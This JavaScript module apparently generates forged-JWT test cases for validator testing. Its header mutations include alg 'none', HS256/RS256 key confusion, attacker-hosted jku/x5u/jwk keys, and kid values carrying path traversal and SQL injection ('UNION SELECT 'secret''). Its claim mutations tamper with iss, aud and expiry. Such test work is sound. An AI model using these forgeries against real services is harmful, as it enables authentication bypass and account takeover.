import { edits } from './attack.js';

const BAD_IDS = '7|""|{}|["x"]|true';
const BAD_TEXTS = '"a\\ud800"|"a\\u0000"';

/** One parameter of the header is changed. */
export const headerAttacks = edits(
  'header',
  {
    none: `unsigned> alg "none"|"None"|"NONE"|"nOnE"|"none "|""|null|"RS256"|
      alg "none"|"NONE"|null|`,
    alg: `HS256 PEM|HS384 PEM|HS512 PEM|HS256 trimmed PEM|HS256 PKCS #1|HS256 DER|HS256 JWK|HS256 n|HS256 kid|HS256 nothing|HS256 secret> alg "$alg"
      RS384|RS512|PS256|PS384|PS512|RS1|ES256|EdDSA> alg "$alg"
      zeros> alg "ES256"
      HS256 PEM> alg "RS256"
      alg "rs256"|"RS256 "|["RS256"]|256`,
    typ: `typ |"JWT"|null|""|7|["at+jwt"]|"at+jwtx"|"x/at+jwt"|"dpop+jwt"|"logout+jwt"|"secevent+jwt"|"token-introspection+jwt"`,
    crit: `crit ["exp"]|["x"],"x":1|[]|"exp"|null|["b64"],"b64":false`,
    keys: `own> jwk: jwk $jwk
      own> jwk with the kid of the issuer: kid "$kid","jwk":$jwk
      HS256 secret> jwk that is a secret: alg "HS256","jwk":{"kty":"oct","k":"c2VjcmV0"}
      own> jku: jku "http://$own"
      own> jku that begins like the issuer: jku "http://$host@$own"
      own> x5u: x5u "http://$own"
      own> kid that is an address: kid "http://$own"`,
    path: `kid "./$kid"|"x/../$kid"|"$kid' OR '1'='1"|"$kid'--"|"$kid\\u0000"|["$kid"]
      HS256 nothing> kid "../../../../../../dev/null","alg":"HS256"
      HS256 secret> kid "' UNION SELECT 'secret","alg":"HS256"`,
    kid: `kid |"other"|""|null|7|"$kid "|"X$kid"|"__proto__"|"constructor"
      endless kid: kid "$long"`,
    twice: `alg "none","alg":"RS256"|"RS256","alg":"none"|"none","\\u0061lg":"RS256"
      kid "x","kid":"$kid"|"$kid","kid":"x"
      typ "JWT","typ":"at+jwt"|"at+jwt","typ":"JWT"`,
  },
  (forge, edit) => forge.edited(0, edit),
);

/** One claim is changed. */
export const claimAttacks = edits(
  'claims',
  {
    claim: 'iss\naud\nexp',
    absent: 'sub\nclient_id\niat\njti',
    iss: `iss "$iss/"|"$iss.example.com"|"https://other.example"|["$iss"]|"$iss?x"|" $iss"|"$ISS"|""|null|7|{"x":"$iss"}
      own> iss "http://$own"`,
    aud: `aud "other"|["other"]|"x$aud"|"$audx"|"$aud/"|"$aud other"|"other,$aud"|["x$aud","$audx"]|[["$aud"]]|{"$aud":true}|[]|""|"*"|null|true|0|"$aud\\u0000"|[{"x":"$aud"}]`,
    exp: `expired: exp $now-120
      expired a day ago: exp $now-86400
      exp 0|-1|-1e308|null|true|[]|{}|""|"never"|"$now+900"|[$now+900]`,
    nbf: `nbf ahead: nbf $now+3600
      nbf in milliseconds: nbf $ms
      nbf "x"|null|{}|"$now-9"`,
    iat: `iat ahead: iat $now+300
      iat in milliseconds: iat $ms
      iat after exp: iat $now+901
      iat null|true|1e308|"$now-9"`,
    life: `exp in milliseconds: exp $ms
      exp 1e308|1e999|9007199254740993
      exp in a month: exp $now+2592000
      exp in ten years: exp $now+315360000`,
    type: `sub null|${BAD_IDS}
      jti null|${BAD_IDS}
      client_id null|${BAD_IDS}
      sid ${BAD_IDS}
      scope null|7|{}
      roles "admin"|7|{}|[7]|[["admin"]]`,
    text: `sub ${BAD_TEXTS}
      jti ${BAD_TEXTS}
      client_id ${BAD_TEXTS}
      sid ${BAD_TEXTS}
      endless sub: sub "$long"
      endless jti: jti "$long"`,
    twice: `aud "other","aud":"$aud"|"$aud","aud":"other"
      iss "x","iss":"$iss"|"$iss","iss":"x"
      exp 1,"exp":$now+900|$now+900,"exp":1
      sub "a","sub":"b"|"a","s\\u0075b":"b"
      jti "a","jti":"b"`,
  },
  (forge, edit) => forge.edited(1, edit),
);
